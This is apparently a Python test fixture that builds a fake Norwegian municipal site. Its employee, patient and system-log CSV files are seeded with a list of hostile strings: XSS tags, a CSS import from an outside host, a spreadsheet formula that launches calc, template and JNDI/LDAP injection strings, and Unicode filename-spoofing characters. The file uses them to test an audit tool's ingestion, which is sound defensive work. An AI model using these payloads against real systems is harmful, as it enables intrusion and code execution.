"""A small site whose log was written by someone who would like to harm its reader."""

from __future__ import annotations

from pathlib import Path

from audit_kernel.site import Site, create_site
from audit_kernel.store.deliver import take_in_all

HEADER = "Id. nr.;Dato;Tid;Loggtype;Ansatt;Tabell;Relatert post;Meldingstype"
# Each would run, load or disguise something where text is taken for markup, code, formula or direction.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "\"'><svg onload=alert(3)>",
    "<a href=javascript:alert(4)>x</a>",
    "</style><style>@import url(http://outside.example/x.css)",
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "-1",
    "@import",
    "{{7*7}}{% raise %}${jndi:ldap://outside.example}",
    "\u202egnp.exe",
    "zero\u200bwidth\ufeff",
    "\ufffe\uffff",
)


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def log_lines(n_rows: int = 400) -> list[str]:
    lines = []
    for number in range(n_rows):
        hostile = HOSTILE[number % len(HOSTILE)]
        employee = hostile if number % 3 == 0 else f"E{number % 25}"
        patient = hostile if number % 7 == 0 else f"P{number % 40}"
        log_type = "Brukersøk sperret" if number % 11 == 0 else "Lesing" if number % 5 else hostile
        table = "Bruker" if number % 4 else hostile
        message = "Post vist" if number % 2 else hostile
        day, hour, minute = number % 31 + 1, number % 24, number % 60
        fields = [log_type, employee, table, patient, message]
        moment = f"{day:02d}.10.2026;{hour:02d}:{minute:02d}:00"
        lines.append(";".join([str(number + 1), moment, *map(quoted, fields)]))
    return lines


def make_hostile_site(folder: Path, n_rows: int = 400) -> Site:
    site = create_site(folder / "site", "NO", "<b>Kommune</b> & <script>alert(0)</script>")
    files = {
        "employees": ["employee_id;name;personal_number;valid_from;valid_to"]
        + [f"{quoted(text)};{quoted(text)};;;" for text in HOSTILE[:10]]
        + [f"E{number};Person {number};;;" for number in range(25)],
        "units": [
            "unit_id;name;unit_type;place;valid_from;valid_to",
            f"U1;{quoted(HOSTILE[0])};{quoted(HOSTILE[1])};x;;",
        ],
        "unit_assignments": ["employee_id;unit_id;role;share_percent;valid_from;valid_to"]
        + [f"E{number};U1;{quoted(HOSTILE[1])};100;;" for number in range(25)],
        "patients": ["patient_id;name;personal_number;unit_id;blocked_from;blocked_to;valid_from;valid_to"]
        + [f"P{number};{quoted(HOSTILE[number % 10])};;U1;;;;" for number in range(40)],
    }
    for kind, lines in files.items():
        path = folder / f"{kind}.csv"
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        _done, refused = take_in_all(site, [path], f"reference:{kind}")
        assert not refused, refused
    path = folder / "systemlogg.csv"
    path.write_text("\n".join([HEADER, *log_lines(n_rows)]) + "\n", encoding="utf-8")
    done, refused = take_in_all(site, [path], "gerica")
    assert not refused, refused
    assert done[0].n_stored > 0
    return site
